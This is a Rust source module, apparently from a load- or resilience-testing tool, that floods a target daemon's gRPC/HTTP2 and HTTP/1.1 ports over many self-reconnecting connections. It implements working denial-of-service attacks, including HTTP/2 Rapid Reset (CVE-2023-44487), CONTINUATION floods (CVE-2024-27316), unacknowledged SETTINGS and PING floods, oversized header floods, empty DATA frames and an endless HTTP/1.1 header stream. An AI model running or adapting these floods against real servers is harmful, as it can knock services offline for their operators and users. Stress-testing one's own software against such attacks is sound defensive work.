//! Frames that cost the sender little and the receiver much.

use super::{again, each};
use crate::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADERS, PING, RST_STREAM,
    SETTINGS, ending, goaway, grpc_fields, grpc_message, put, put_fields, put_opening, read_frame,
};
use crate::grpc::{FETCH_BLOCKS, fetch_blocks};
use crate::hold::Hold;
use crate::tally::{Tally, wide};
use crate::target::Target;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncWriteExt as _, BufReader};
use tokio::net::TcpStream;

/// Last stream number used; the flood continues on a new connection.
const STREAM_MAX: u32 = 1 << 30;
const FRAMES_A_WRITE: u32 = 100;
/// Most frames a second on each connection, so that the sender's own CPU use is known.
const FRAMES_A_SECOND: u32 = 10_000;
const RECONNECT_AFTER: Duration = Duration::from_millis(10);

/// What is sent endlessly.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Whole requests, each cancelled at once (CVE-2023-44487).
    RapidReset,
    /// Heads of requests with a part of their body, each cancelled.
    ResetAfterHeaders,
    /// SETTINGS, whose acknowledgements are not read.
    Settings,
    /// PING, whose acknowledgements are not read.
    Ping,
    /// One head continued in CONTINUATION frames (CVE-2024-27316).
    Continuation,
    /// Requests with thousands of header fields.
    Headers,
    /// One request whose body is DATA frames of no bytes.
    EmptyData,
    /// One HTTP/1.1 request with endless header fields.
    HttpHeaders,
}

impl Kind {
    /// Whether answers are read: some floods are worse if they are not.
    fn reads(self) -> bool {
        !matches!(self, Self::Settings | Self::Ping)
    }
}

/// Which flood, on how many connections.
#[derive(Debug, Clone, clap::Args)]
pub struct Options {
    /// What is sent.
    #[arg(value_enum)]
    pub kind: Kind,
    /// Connections.
    #[arg(long, default_value_t = 8)]
    pub connections: usize,
}

/// Runs the case. A connection that is closed is replaced at once.
///
/// # Errors
/// A task panicked.
pub async fn run(target: &Target, options: &Options, hold: &Hold, tally: &Tally) -> io::Result<()> {
    each(options.connections, |_| {
        let (target, options, hold, tally) = (target.clone(), options.clone(), hold.clone(), tally.clone());
        async move {
            let (target, options, hold, tally) = (&target, &options, &hold, &tally);
            let address = if options.kind == Kind::HttpHeaders {
                target.http
            } else {
                target.grpc
            };
            let connect = || target.connect(address);
            again(hold, tally, Some(RECONNECT_AFTER), connect, |stream| async move {
                if let Some(how) = hold.unless_ended(flood(stream, target, options, tally)).await {
                    tally.closed(&how);
                }
            })
            .await;
        }
    })
    .await
}

/// Floods one connection until the daemon closes it; returns how it ended.
async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Tally) -> String {
    let (reader, mut writer) = stream.into_split();
    let write = async {
        let mut frames = Frames::new(options.kind, target);
        writer.write_all(&frames.opening()).await?;
        let pause = Duration::from_secs(1) * FRAMES_A_WRITE / FRAMES_A_SECOND;
        let mut ticks = tokio::time::interval(pause);
        ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
        let mut out = Vec::new();
        while frames.next_stream < STREAM_MAX {
            ticks.tick().await;
            out.clear();
            let sent = frames.fill(&mut out);
            writer.write_all(&out).await?;
            tally.change(|counts| {
                counts.frames_sent = counts.frames_sent.saturating_add(sent.into());
                counts.bytes_sent = counts.bytes_sent.saturating_add(wide(out.len()));
            });
        }
        Ok::<_, io::Error>(())
    };
    let read = async {
        if !options.kind.reads() {
            return std::future::pending().await;
        }
        let mut reader = BufReader::new(reader);
        if options.kind == Kind::HttpHeaders {
            let mut answer = Vec::new();
            return match tokio::io::AsyncReadExt::read_to_end(&mut reader, &mut answer).await {
                Ok(_) => {
                    let line = str::from_utf8(&answer).unwrap_or_default();
                    let status =
                        crate::http1::status_of(line).map_or(String::new(), |code| format!("HTTP {code}, "));
                    format!("{status}end of stream")
                }
                Err(error) => ending(&error),
            };
        }
        loop {
            match read_frame(&mut reader).await {
                Ok((head, payload)) => {
                    tally.received(head.length + 9);
                    if head.kind == GOAWAY {
                        return goaway(&payload);
                    }
                }
                Err(error) => return ending(&error),
            }
        }
    };
    tokio::pin!(read);
    tokio::select! {
        how = &mut read => how,
        written = write => match written {
            Ok(()) => "out of stream numbers".to_owned(),
            // The daemon's reason for closing may still be readable.
            Err(error) => match tokio::time::timeout(Duration::from_millis(200), read).await {
                Ok(how) => how,
                Err(_) => ending(&error),
            },
        },
    }
}

struct Frames {
    kind: Kind,
    head: Vec<u8>,
    body: Vec<u8>,
    next_stream: u32,
}

impl Frames {
    fn new(kind: Kind, target: &Target) -> Self {
        let mut head = Vec::new();
        put_fields(&mut head, &grpc_fields(FETCH_BLOCKS));
        Self {
            kind,
            head,
            body: grpc_message(&fetch_blocks(target, [0])),
            next_stream: 1,
        }
    }

    fn opening(&mut self) -> Vec<u8> {
        let mut out = Vec::new();
        if self.kind == Kind::HttpHeaders {
            out.extend_from_slice(b"GET / HTTP/1.1\r\nHost: localhost\r\n");
            return out;
        }
        put_opening(&mut out, 65_535);
        match self.kind {
            Kind::Continuation => put(&mut out, HEADERS, END_STREAM, 1, &self.head),
            Kind::EmptyData => put(&mut out, HEADERS, END_HEADERS, 1, &self.head),
            Kind::RapidReset
            | Kind::ResetAfterHeaders
            | Kind::Settings
            | Kind::Ping
            | Kind::Headers
            | Kind::HttpHeaders => {}
        }
        out
    }

    /// Appends about one write's worth of frames; returns how many.
    fn fill(&mut self, out: &mut Vec<u8>) -> u32 {
        for _ in 0..FRAMES_A_WRITE {
            let stream = self.next_stream;
            match self.kind {
                Kind::RapidReset => {
                    put(out, HEADERS, END_HEADERS, stream, &self.head);
                    put(out, DATA, END_STREAM, stream, &self.body);
                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    self.next_stream += 2;
                }
                Kind::ResetAfterHeaders => {
                    put(out, HEADERS, END_HEADERS, stream, &self.head);
                    put(out, DATA, 0, stream, &self.body[..5]);
                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    self.next_stream += 2;
                }
                Kind::Settings => put(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
                Kind::Ping => put(out, PING, 0, 0, &[0; 8]),
                Kind::Continuation => {
                    let mut fields = Vec::new();
                    put_fields(&mut fields, &[("x-more", "0123456789abcdef0123456789abcdef")]);
                    put(out, CONTINUATION, 0, 1, &fields);
                }
                Kind::Headers => {
                    let mut fields = self.head.clone();
                    let value = "0123456789abcdef0123456789abcdef";
                    while fields.len() < FRAME_BYTES_MAX - 64 {
                        put_fields(&mut fields, &[("x-many", value)]);
                    }
                    put(out, HEADERS, 0, stream, &fields);
                    put(out, CONTINUATION, END_HEADERS, stream, &fields[self.head.len()..]);
                    put(out, DATA, END_STREAM, stream, &self.body);
                    self.next_stream += 2;
                }
                Kind::EmptyData => put(out, DATA, 0, 1, &[]),
                Kind::HttpHeaders => out.extend_from_slice(b"x-more: 0123456789abcdef0123456789abcdef\r\n"),
            }
        }
        FRAMES_A_WRITE
    }
}
